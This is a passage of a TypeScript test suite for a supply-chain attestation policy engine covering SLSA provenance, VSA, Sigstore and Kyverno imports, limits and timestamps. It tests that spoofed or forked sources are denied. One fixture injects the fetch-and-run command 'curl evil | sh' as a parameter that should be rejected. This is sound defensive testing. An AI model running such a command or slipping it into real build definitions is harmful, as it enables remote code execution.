  });

  it('hazard 36: plug-in conditions: undefined fails, errors and warnings surface, no evaluator is indeterminate', () => {
    const doc = pol(att({ where: [{ plugin: 'rego', source: 'package x' }] }));
    const ev = { artifacts: [ARTIFACT], results: [attestation({ predicateType: SLSA1 })] };
    const none = evaluate(doc, ev, { now: NOW });
    expect(none.status).toBe('indeterminate');
    expect(none.decision).toBe('deny');
    expect(evaluate(doc, ev, { now: NOW, plugins: { rego: () => undefined } }).status).toBe('fail');
    const withError = evaluate(doc, ev, { now: NOW, plugins: { rego: () => ({ result: true, error: 'denied by rule x', warning: 'old base image' }) } });
    expect(withError.decision).toBe('deny');
    expect(formatVerdict(withError)).toContain('denied by rule x');
    expect(formatVerdict(withError)).toContain('old base image');
    expect(evaluate(doc, ev, { now: NOW, plugins: { rego: () => { throw new Error('boom'); } } }).result.reason).toBe('PLUGIN_ERROR');
    expect(evaluate(doc, ev, { now: NOW, plugins: { rego: () => true } }).decision).toBe('allow');
  });

  it('hazard 37: imported JMESPath paths are predicate-relative and predicate keys cannot shadow the signer', () => {
    const k = importKyverno(kyvernoAttestationYaml([{ all: [{ key: '{{ request.object.name }}', operator: 'Equals', value: 'x' }] }]));
    const where = JSON.stringify(k.policies[0]!.require);
    expect(where).toContain('"/predicate/request/object/name"');
    const doc = pol(att({ where: [{ path: '/subjectAlternativeName', on: 'signer', match: { prefix: 'https://github.com/acme/app/' } }] }));
    const spoof = attestation({ predicateType: SLSA1, predicate: { subjectAlternativeName: 'https://github.com/acme/app/x', signer: { subjectAlternativeName: 'https://github.com/acme/app/x' } }, signer: { san: 'https://github.com/acme/app/.github/workflows/release.yml@refs/heads/main' } });
    expect(run(doc, [spoof]).decision).toBe('allow');
    const doc2 = pol(att({ where: [{ path: '/subjectAlternativeName', on: 'signer', op: 'eq', value: 'https://github.com/acme/app/x' }] }));
    expect(run(doc2, [spoof]).decision).toBe('deny');
  });

  it('hazard 38: null, absent and {} are the same for exists and onlyKeys', () => {
    for (const v of [null, {}, undefined]) {
      const p = v === undefined ? { params: {} } : { params: { foo: v } };
      expect(cond([{ path: '/predicate/params/foo', exists: false }], p).decision).toBe('allow');
      expect(cond([{ path: '/predicate/params/foo', exists: true }], p).decision).toBe('deny');
      expect(cond([{ path: '/predicate/params', onlyKeys: ['bar'] }], p).decision).toBe('allow');
    }
    expect(cond([{ path: '/predicate/params', onlyKeys: ['bar'] }], { params: { foo: 1 } }).decision).toBe('deny');
  });

  it('hazard 39: typed comparisons: numeric strings, fractional RFC 3339, SemVer prereleases', () => {
    expect(cond([{ path: '/predicate/score', op: 'gt', value: 9.8, as: 'number' }], { score: '10.0' }).decision).toBe('allow');
    expect(cond([{ path: '/predicate/t', op: 'gt', value: '2021-08-06T17:45:50.5Z', as: 'time' }], { t: '2021-08-06T17:45:50.52Z' }).decision).toBe('allow');
    expect(cond([{ path: '/predicate/t', op: 'lt', value: '2021-08-06T17:45:50.52Z', as: 'time' }], { t: '2021-08-06T19:45:50.5+02:00' }).decision).toBe('allow');
    expect(cond([{ path: '/predicate/v', op: 'gte', value: '1.2.3', as: 'semver' }], { v: 'v1.2.3-rc.1' }).decision).toBe('deny');
    expect(cond([{ path: '/predicate/v', op: 'gte', value: '1.2.3', as: 'semver' }], { v: '1.10.0' }).decision).toBe('allow');
    expect(cond([{ path: '/predicate/v', op: 'gte', value: '1.2.3', as: 'semver' }], { v: 'latest' }).result.reason).toBe('TYPE_MISMATCH');
  });
});

describe('G. SLSA provenance', () => {
  const GEN = 'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml';
  const builderCheck = (expected: string, actual: string) =>
    run(pol(att({ slsa: { builderId: expected } })), [attestation({ predicateType: SLSA1, predicate: slsaV1({ builder: actual }) })]).decision;

  it('hazard 40: builder ids: name-only matches released versions; versions match both ref spellings; branches fail', () => {
    expect(builderCheck(GEN, `${GEN}@refs/tags/v1.9.0`)).toBe('allow');
    expect(builderCheck(GEN, `${GEN}@v2.0.0`)).toBe('allow');
    expect(builderCheck(GEN, `${GEN}@refs/heads/main`)).toBe('deny');
    expect(builderCheck(GEN, `${GEN}@refs/tags/v1.9.0-rc.1`)).toBe('deny');
    expect(builderCheck(`${GEN}@v1.9.0`, `${GEN}@refs/tags/v1.9.0`)).toBe('allow');
    expect(builderCheck(`${GEN}@refs/tags/v1.9.0`, `${GEN}@v1.9.0`)).toBe('allow');
    expect(builderCheck(`${GEN}@v1.9.0`, `${GEN}@v1.9.1`)).toBe('deny');
    expect(builderCheck(GEN, `${GEN}x@v1.0.0`)).toBe('deny');
  });

  it('hazard 41: a delegating builder does not stand in for the inner builder; unchecked builders are linted', () => {
    const DELEGATOR = 'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/delegator_generic_slsa3.yml@refs/tags/v1.9.0';
    const INNER = 'https://github.com/acme/builder/.github/workflows/build.yml';
    expect(builderCheck(INNER, DELEGATOR)).toBe('deny');
    expect(builderCheck(INNER, `${INNER}@v1.0.0`)).toBe('allow');
    expect(codes(pol(att({ slsa: { sourceUri: 'github.com/acme/app' } })))).toContain('SLSA_BUILDER_UNCHECKED');
  });

  it('hazard 42: source URIs: forks and case-variant hosts fail; the trigger and the material are both checked; a ref is required', () => {
    const doc = pol(att({ slsa: { sourceUri: 'github.com/acme/app' } }));
    const v1 = (o: Parameters<typeof slsaV1>[0]) => run(doc, [attestation({ predicateType: SLSA1, predicate: slsaV1(o) })]).decision;
    expect(v1({})).toBe('allow');
    expect(v1({ repo: 'https://github.com/acme-evil/app' })).toBe('deny');
    expect(v1({ repo: 'https://GitHub.com/acme/app' })).toBe('deny');
    const mixed = slsaV1();
    mixed.buildDefinition.resolvedDependencies[0]!.uri = 'git+https://github.com/acme-evil/app@refs/heads/main';
    expect(run(doc, [attestation({ predicateType: SLSA1, predicate: mixed })]).decision).toBe('deny');
    const doc02 = pol(att({ predicateType: { family: 'slsa-provenance' }, slsa: { sourceUri: 'https://github.com/acme/app' } }));
    const v02 = (source: string) => run(doc02, [attestation({ predicateType: SLSA02, predicate: slsaV02({ source }) })]).decision;
    expect(v02('git+https://github.com/acme/app@refs/tags/v1.2.3')).toBe('allow');
    expect(v02('git+https://github.com/acme/app')).toBe('deny');
    expect(v02('git+https://github.com/acme-evil/app@refs/tags/v1.2.3')).toBe('deny');
  });

  it('hazard 43: versioned tags: v1 any v1.x.y, v1.2 pins the minor, build metadata ignored, prereleases only when asked', () => {
    const table: [string, string, 'allow' | 'deny'][] = [
      ['v1', 'v1.0.0', 'allow'],
      ['v1', 'v1.9.12', 'allow'],
      ['v1', 'v2.0.0', 'deny'],
      ['v1', 'v10.0.0', 'deny'],
      ['v1', 'v1.2.3-rc.1', 'deny'],
      ['v1.2', 'v1.2.7', 'allow'],
      ['v1.2', 'v1.3.0', 'deny'],
      ['v1.2.3', 'v1.2.3', 'allow'],
      ['v1.2.3', 'v1.2.3+build.5', 'allow'],
      ['v1.2.3', 'v1.2.30', 'deny'],
      ['v1.2.3-rc.1', 'v1.2.3-rc.1', 'allow'],
      ['v1', 'v1.2', 'deny'],
    ];
    for (const [want, tag, decision] of table) {
      const v = run(pol(att({ slsa: { versionedTag: want } })), [attestation({ predicateType: SLSA1, predicate: slsaV1({ ref: `refs/tags/${tag}` }) })]);
      expect([want, tag, v.decision]).toEqual([want, tag, decision]);
    }
  });

  it('hazard 44: unknown external parameters fail', () => {
    const doc = pol(att({ slsa: { externalParameters: { only: ['workflow'] } } }));
    expect(run(doc, [attestation({ predicateType: SLSA1, predicate: slsaV1() })]).decision).toBe('allow');
    const extra = slsaV1({ params: { workflow: { ref: 'refs/tags/v1.2.3', repository: 'https://github.com/acme/app', path: 'x' }, inject: 'curl evil | sh' } });
    const v = run(doc, [attestation({ predicateType: SLSA1, predicate: extra })]);
    expect(reasonCodes(v)).toEqual(['SLSA_UNEXPECTED_PARAMETER']);
  });

  it('hazard 45: the provenance builder must be one the signer is trusted for', () => {
    const doc = pol(att({ slsa: { builderIsSigner: true } }));
    expect(run(doc, [attestation({ predicateType: SLSA1, predicate: slsaV1() })]).decision).toBe('allow');
    const gcb = attestation({ predicateType: SLSA1, predicate: slsaV1({ builder: 'https://cloudbuild.googleapis.com/GoogleHostedWorker' }) });
    expect(reasonCodes(run(doc, [gcb]))).toEqual(['SLSA_BUILDER_NOT_SIGNER']);
  });

  it('hazard 46: npm package subjects are matched after purl encoding; an extra @ fails', () => {
    const npm = (name: string) => attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: [{ name, digest: { sha512: 'f'.repeat(128) } }] });
    const art = { digest: { sha512: 'f'.repeat(128) } };
    const doc = pol(att({ subject: { npmPackage: { name: '@acme/app' } } }));
    expect(run(doc, [npm('pkg:npm/%40acme/app@1.2.3')], { artifacts: [art] }).decision).toBe('allow');
    expect(run(doc, [npm('pkg:npm/%40acme/app@1.2.3@evil')], { artifacts: [art] }).decision).toBe('deny');
    expect(run(doc, [npm('pkg:npm/%40acme/app-evil@1.2.3')], { artifacts: [art] }).decision).toBe('deny');
    const pinned = pol(att({ subject: { npmPackage: { name: '@acme/app', version: '1.2.3' } } }));
    expect(run(pinned, [npm('pkg:npm/%40acme/app@1.2.4')], { artifacts: [art] }).decision).toBe('deny');
  });
});

describe('H. VSA', () => {
  const vsa = (o: Record<string, unknown> = {}) =>
    attestation({
      predicateType: VSA,
      predicate: { verifier: { id: 'https://verifier.example' }, resourceUri: 'git+https://github.com/acme/app', policy: { uri: 'https://policy.example' }, verificationResult: 'PASSED', verifiedLevels: ['SLSA_BUILD_LEVEL_3', 'ACME_REVIEWED'], ...o },
    });
  const rule = (check: Record<string, unknown>) => pol(att({ predicateType: VSA, vsa: check }));

  it('hazard 47: level N implies lower levels; other values need exact membership; SLSA_ prefix is reserved', () => {
    expect(run(rule({ minLevels: { BUILD: 2 } }), [vsa()]).decision).toBe('allow');
    expect(run(rule({ minLevels: { BUILD: 4 } }), [vsa()]).decision).toBe('deny');
    expect(run(rule({ minLevels: { SOURCE: 1 } }), [vsa()]).decision).toBe('deny');
    expect(run(rule({ levels: ['ACME_REVIEWED'] }), [vsa()]).decision).toBe('allow');
    expect(run(rule({ levels: ['ACME_REVIEW'] }), [vsa()]).decision).toBe('deny');
    expect(codes(rule({ levels: ['SLSA_CUSTOM'] }))).toContain('SCHEMA');
  });

  it('hazard 48: resource URI exact, verifier id, and PASSED required whatever the levels', () => {
    const c = { verifierId: { exact: 'https://verifier.example' }, resourceUri: { exact: 'git+https://github.com/acme/app' }, minLevels: { BUILD: 3 } };
    expect(run(rule(c), [vsa()]).decision).toBe('allow');
    expect(reasonCodes(run(rule(c), [vsa({ verificationResult: 'FAILED' })]))).toEqual(['VSA_NOT_PASSED']);
    expect(reasonCodes(run(rule(c), [vsa({ resourceUri: 'git+https://github.com/acme/app2' })]))).toEqual(['VSA_RESOURCE_MISMATCH']);
    expect(reasonCodes(run(rule(c), [vsa({ verifier: { id: 'https://verifier.example/' } })]))).toEqual(['VSA_VERIFIER_MISMATCH']);
  });

  it('hazard 49: dependencyLevels unset is indeterminate; {} passes', () => {
    const r = rule({ minDependencyLevels: { BUILD: 1 } });
    const unset = run(r, [vsa()]);
    expect(unset.status).toBe('indeterminate');
    expect(unset.decision).toBe('deny');
    expect(run(r, [vsa({ dependencyLevels: {} })]).decision).toBe('allow');
    expect(run(r, [vsa({ dependencyLevels: { SLSA_BUILD_LEVEL_0: 2 } })]).decision).toBe('deny');
    expect(run(r, [vsa({ dependencyLevels: { SLSA_BUILD_LEVEL_0: 0, SLSA_BUILD_LEVEL_3: 4 } })]).decision).toBe('allow');
  });

  it('hazard 50: maxAge on verified time works without timeVerified; a field clock fails when the field is absent', () => {
    expect(run(pol(att({ predicateType: VSA, maxAge: { duration: 'P1D', clock: 'verified' } })), [vsa()]).decision).toBe('allow');
    const field = pol(att({ predicateType: VSA, maxAge: { duration: 'P1D', clock: { field: '/predicate/timeVerified' } } }));
    expect(run(field, [vsa()]).result.reason).toBe('TIME_FIELD_MISSING');
    expect(run(field, [vsa({ timeVerified: '2025-06-01T00:00:00Z' })]).decision).toBe('allow');
    expect(run(field, [vsa({ timeVerified: '2025-05-01T00:00:00Z' })]).result.reason).toBe('STALE');
  });
});

describe('I. limits', () => {
  it('hazard 51: caps on evidence, subjects, digests, predicate bytes and pattern length give indeterminate with a reason', () => {
    const ok = attestation({ predicateType: SLSA1, predicate: slsaV1() });
    const evidence = run(pol(att(), { limits: { maxEvidence: 2 } }), [ok, ok, ok]);
    expect([evidence.status, evidence.result.reason]).toEqual(['indeterminate', 'LIMIT_EXCEEDED']);
    const digests = attestation({ predicateType: SLSA1, predicate: slsaV1(), subjects: [{ name: 'x', digest: { sha256: SHA_A, a: '1', b: '2', c: '3' } }] });
    expect(run(pol(att({ select: 'all' }), { limits: { maxDigestsPerSubject: 2 } }), [digests]).status).toBe('indeterminate');
    const big = attestation({ predicateType: SLSA1, predicate: { ...slsaV1(), blob: 'x'.repeat(5000) } });
    const bytes = run(pol(att({ select: 'all' }), { limits: { maxPredicateBytes: 1000 } }), [big]);
    expect(bytes.status).toBe('indeterminate');
    expect(JSON.stringify(bytes.result)).toContain('exceeds the limit');
    const longPattern = pol(att(), { authorities: { gha: gha({ regex: `${'a'.repeat(50)}.*` }) }, limits: { maxPatternLength: 20 } });
    expect(codes(longPattern)).toContain('PATTERN_TOO_LONG');
    const p = run(longPattern, [ok]);
    expect(p.status).toBe('indeterminate');
    expect(p.decision).toBe('deny');
    // A cap on one attestation does not hide another that passes under `any`.
    expect(run(pol(att({ select: 'any' }), { limits: { maxPredicateBytes: 1000 } }), [big, ok]).decision).toBe('allow');
  });
});

describe('J. modes, exit codes, reporting', () => {
  const failing = attestation({ predicateType: VULN });
  it('hazard 52: warn mode allows failures but reports them; indeterminate still denies', () => {
    const v = run(pol(att(), { mode: 'warn' }), [failing]);
    expect(v.decision).toBe('allow');
    expect(v.status).toBe('fail');
    expect(v.warnings.map((w) => w.reason)).toEqual(['NO_ATTESTATION_OF_TYPE']);
    const ind = run(pol(att({ where: [{ plugin: 'cue', source: 'x' }] }), { mode: 'warn' }), [attestation({ predicateType: SLSA1 })]);
    expect(ind.decision).toBe('deny');
  });

  it('hazard 53: any non-allow verdict maps to a non-zero exit code', () => {
    expect(verdictExitCode(run(pol(att()), [failing]))).toBe(1);
    expect(verdictExitCode(run(pol(att()), []))).toBe(1);
    expect(verdictExitCode(run(pol(att(), { mode: 'audit' }), []))).toBe(1);
    expect(verdictExitCode(run(pol(att({ where: [{ plugin: 'cue', source: 'x' }] })), [attestation({ predicateType: SLSA1 })]))).toBe(1);
    expect(verdictExitCode(run(pol(att()), [attestation({ predicateType: SLSA1 })]))).toBe(0);
  });

  it('hazard 54: audit mode returns the full verdict tree', () => {
    const doc = pol({ allOf: [att(), { signedBy: ['gha'] }, { attestation: { id: 'scan', predicateType: VULNS02, by: ['gha'], select: 'all' } }] }, { mode: 'audit' });
    const v = run(doc, [failing]);
    expect(v.enforced).toBe(false);
    expect(v.mode).toBe('audit');
    expect(v.result.children!.length).toBe(3);
    expect(v.result.children!.map((c) => c.status)).toEqual(['fail', 'fail', 'fail']);
    expect(v.evidence.length).toBe(1);
  });

  it('hazard 55: the same policy gives the same verdict over every bundle media type and version', () => {
    const doc = pol({ allOf: [att({ slsa: { sourceUri: 'github.com/acme/app', builderIsSigner: true } }), { signedBy: ['gha'] }] });
    const verdicts = ['application/vnd.dev.sigstore.bundle+json;version=0.1', 'application/vnd.dev.sigstore.bundle+json;version=0.2', 'application/vnd.dev.sigstore.bundle.v0.3+json'].map((mt) =>
      run(doc, [signature(), attestation({ predicateType: SLSA1, predicate: slsaV1(), bundleMediaType: mt })]),
    );
    expect(verdicts[0]!.decision).toBe('allow');
    expect(verdicts[1]!.result).toEqual(verdicts[0]!.result);
    expect(verdicts[2]!.result).toEqual(verdicts[0]!.result);
  });
});

describe('K. time', () => {
  it('hazard 56: maxAge uses the earliest verified time; a future finishedOn is flagged', () => {
    const r = attestation({ predicateType: SLSA1, predicate: slsaV1(), time: '2025-06-01T11:00:00Z' });
    const twoTimes = { ...r, verifiedTimes: [{ source: 'rfc3161', time: '2025-06-01T11:30:00Z', authority: 'https://tsa.example' }, { source: 'tlog', time: '2025-05-20T00:00:00Z', authority: 'https://rekor.sigstore.dev' }] };
    const doc = pol(att({ maxAge: { duration: 'P7D', clock: 'verified' } }));
    expect(run(doc, [r]).decision).toBe('allow');
    expect(run(doc, [twoTimes]).result.reason).toBe('STALE');
    const future = attestation({ predicateType: SLSA1, predicate: slsaV1({ finishedOn: '2025-06-01T10:00:00Z' }), time: '2025-06-01T09:00:00Z' });
    expect(reasonCodes(run(pol(att({ slsa: { builderIsSigner: true } })), [future]))).toEqual(['FUTURE_TIMESTAMP']);
    const fine = attestation({ predicateType: SLSA1, predicate: slsaV1({ finishedOn: '2025-06-01T08:59:00Z' }), time: '2025-06-01T09:00:00Z' });
    expect(run(pol(att({ slsa: { builderIsSigner: true } })), [fine]).decision).toBe('allow');
    // A verified time ahead of now is not fresh, it is wrong.
    expect(run(doc, [attestation({ predicateType: SLSA1, time: '2025-06-02T00:00:00Z' })]).result.reason).toBe('FUTURE_TIMESTAMP');
  });
});

// ---- YAML helpers ----

const PEM = `-----BEGIN PUBLIC KEY-----
MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE2G8ABxKfP6mmdG/xyK8CxqBhXWvr
0c4ugVeVgDwJy6iHmJ9UCzwYbvZxn1/ApT6Z3MvXJ8oWkAKl8Pm0nO7DIQ==
-----END PUBLIC KEY-----`;

function cip(authority: Record<string, unknown>): string {
  const att = (authority.attestations as { name: string; predicateType: string }[]).map((a) => `        - { name: ${a.name}, predicateType: ${a.predicateType} }`).join('\n');
  return `apiVersion: policy.sigstore.dev/v1alpha1
kind: ClusterImagePolicy
metadata: { name: p }
spec:
  images: [{ glob: "ghcr.io/acme/**" }]
  authorities:
    - name: gha
      keyless:
        identities: [{ issuer: "${GHA_ISSUER}", subject: "${WORKFLOW_SAN}" }]
      attestations:
${att}
`;
}

function kyvernoYaml(attestors: unknown[]): string {
  return `apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: { name: k }
spec:
  validationFailureAction: Enforce
  rules:
    - name: r
      match: { any: [{ resources: { kinds: [Pod] } }] }
      verifyImages:
        - imageReferences: ["ghcr.io/acme/*"]
          attestors: ${JSON.stringify(attestors)}
`;
}

function kyvernoPolicy(entry: Record<string, unknown>): string {
  return kyvernoYaml([{ entries: [entry] }]);
}

function kyvernoAttestationYaml(conditions: unknown[]): string {
  return `apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: { name: k }
spec:
  validationFailureAction: Enforce
  rules:
    - name: r
      verifyImages:
        - imageReferences: ["ghcr.io/acme/*"]
          attestations:
            - type: ${SLSA1}
              attestors: [{ entries: [{ keyless: { subject: "${WORKFLOW_SAN}", issuer: "${GHA_ISSUER}" } }] }]
              conditions: ${JSON.stringify(conditions)}
`;
}
